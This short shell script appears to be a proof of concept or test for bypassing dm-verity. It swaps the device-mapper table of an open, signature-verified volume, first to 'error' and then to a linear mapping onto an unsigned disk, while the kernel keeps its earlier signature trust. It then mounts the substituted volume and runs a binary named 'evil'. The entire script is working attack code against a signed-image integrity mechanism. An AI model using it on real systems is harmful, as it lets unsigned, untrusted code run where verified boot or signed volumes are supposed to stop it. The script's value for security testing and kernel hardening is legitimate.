# shellcheck shell=sh
#
# verity-replace - put an ordinary disk in the place of a signed volume that is open
#
# The table of a dm-verity volume may be replaced by the target "error", and that by any other. What
# the kernel thinks of the volume's signature stays. SPDX-License-Identifier: MIT

export DM_DISABLE_UDEV=1
dd if=/attack/benign of=/dev/vdd bs=4096 seek="$(cat /attack/good.block)" conv=notrunc,fsync
mkdir -p /tmp/replace
verity_open good /dev/vdd signed replace
size=$(blockdev --getsz /dev/vdb)
# table LINE: replace it.
table() {
	dmsetup suspend replace
	dmsetup load replace --table "0 $size $1"
	dmsetup resume replace
}
table error
table "linear /dev/vdb 0"
mount -t ext4 -o ro,noload /dev/mapper/replace /tmp/replace
/tmp/replace/evil
umount /tmp/replace
dmsetup remove replace
